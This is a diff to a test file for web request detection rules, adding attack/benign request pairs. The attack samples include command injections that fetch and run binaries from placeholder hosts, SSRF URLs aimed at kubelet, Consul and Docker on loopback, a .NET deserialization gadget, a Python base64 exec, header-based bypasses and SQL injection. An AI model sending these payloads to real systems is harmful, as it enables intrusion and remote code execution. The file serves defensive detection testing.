@@ -1,5 +1,5 @@
 /**
- * Rules of revs 2026-12-04b–d (issue 18, generalization): each describes an exploit *mechanism* — a
+ * Rules of revs 2026-12-04b–d and 2026-12-05a (issue 18, generalization): each describes an exploit *mechanism* — a
  * command injected after a short value, a reverse shell, a language's process primitive, a template
  * engine's object chain, a template included by URL — not one product's request. Each fires on its
  * attack wherever the value sits (query, form, JSON, XML, header) and stays quiet on the benign text
@@ -90,6 +90,20 @@ const CASES: Array<[number, string, RequestSpec, RequestSpec]> = [
   [9001334, 'phpinfo() in a header', header('X-Debug', 'phpinfo();'), header('User-Agent', 'Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)')],
   [9001509, 'a container binding the host root', json('{"Image":"alpine","HostConfig":{"Binds":["/:/mnt:rw"],"Privileged":true}}'), json('{"Image":"nginx","HostConfig":{"Binds":["/srv/www:/usr/share/nginx/html:ro"]}}')],
   [9001509, 'a pod mounting the host root by hostPath', json('{"spec":{"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}'), json('{"spec":{"volumes":[{"name":"d","hostPath":{"path":"/var/log/app"}}]}}')],
+  // rev 2026-12-05a (session 12): the mechanisms of held-out-4's misses
+  [9000322, 'a backticked tftp download, chmod and run in a form value', form('langType=en%60cd+%2Ftmp+%26%26+tftp+-g+-r+mpsl+203.0.113.9+%26%26+chmod+%2Bx+mpsl+%26%26+.%2Fmpsl%60'), json('{"script":["curl -LO https://dl.example.dev/kubectl && chmod +x kubectl && sudo mv kubectl /usr/local/bin/"]}')],
+  [9000322, 'a cd into /dev/shm, a download, chmod 777 and run after a pipe in JSON', json('{"command":"127.0.0.1|cd /dev/shm;wget http://x.test/x86_64;chmod 777 x86_64;./x86_64 z5"}'), form('message=I+ran+chmod+600+%7E%2F.ssh%2Fconfig%3B+ls+-la+%7E%2F.ssh')],
+  [9000322, 'a cd into /var/tmp then busybox wget in the query', q('log=%3Bcd%20%2Fvar%2Ftmp%3Bbusybox%20wget%20http%3A%2F%2Fx.test%2Fa'), q('q=cd+%2Ftmp+then+wget+the+tarball+and+run+make')],
+  [9000524, 'an image proxy path fetching the kubelet on the loopback', { url: '/unsafe/300x200/http://127.0.0.1:10250/pods' }, { url: '/unsafe/300x200/https://cdn.example.com/a.jpg' }],
+  [9000524, 'a url parameter naming the Consul agent on [::1]', q('url=http%3A%2F%2F%5B%3A%3A1%5D%3A8500%2Fv1%2Fagent%2Fself'), json('{"callback_url":"http://localhost:3000/cb","api":"http://127.0.0.1:8080/api/v1/items"}')],
+  [9000524, 'a model url naming Docker on 0.0.0.0', { method: 'POST', url: '/models?url=http://0.0.0.0:2375/containers/json' }, { method: 'POST', url: '/models?url=https://models.example.com/resnet-18.mar' }],
+  [9001018, 'a hex-encoded ExpandedWrapper of ObjectDataProvider in a hidden field', form('ctl00%24hiddenSpanData=__bp53797374656d2e446174612e53657276696365732e496e7465726e616c2e457870616e64656457726170706572603262c4f626a6563744461746150726f7669646572'), form('hash=9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08&id=4f626a65637444')],
+  [9001335, 'an escaped NUL inside a JSON key in a form field', form('mode=151&json=%7B%22username%22%3A%22a%22%2C%22mode%5Cu0000x%22%3A151%7D'), form('mode=151&json=%7B%22username%22%3A%22a%22%2C%22mode%22%3A151%7D')],
+  [9001335, 'an escaped NUL inside a JSON body key', json('{"user":"a","mode\\u0000x":1}'), json('{"text":"a\\u0000b","mode":1}')],
+  [9001336, 'the Next.js middleware subrequest header from a client', header('x-middleware-subrequest', 'middleware:middleware:middleware'), header('X-Middleware-Cache', 'no-cache')],
+  [9001336, 'a Camel exec header in an odd casing', header('cAmelExecCommandExecutable', 'id'), header('X-Camel-Route', 'orders')],
+  [9001337, 'a Python exec of a base64-decoded blob', json('{"code":"@exec(__import__(\'base64\').b64decode(\'aWQ=\'))\\ndef f(): pass"}'), json('{"body":"base64.b64decode(s) returns bytes; exec is a builtin"}')],
+  [9000121, 'a quote and an OR in a bearer token', header('Authorization', "Bearer abc'/**/or/**/'1'='1"), header('Authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnLV94')],
 ];
 
 describe('bundled rules for exploit mechanisms (issue 18, generalization)', () => {
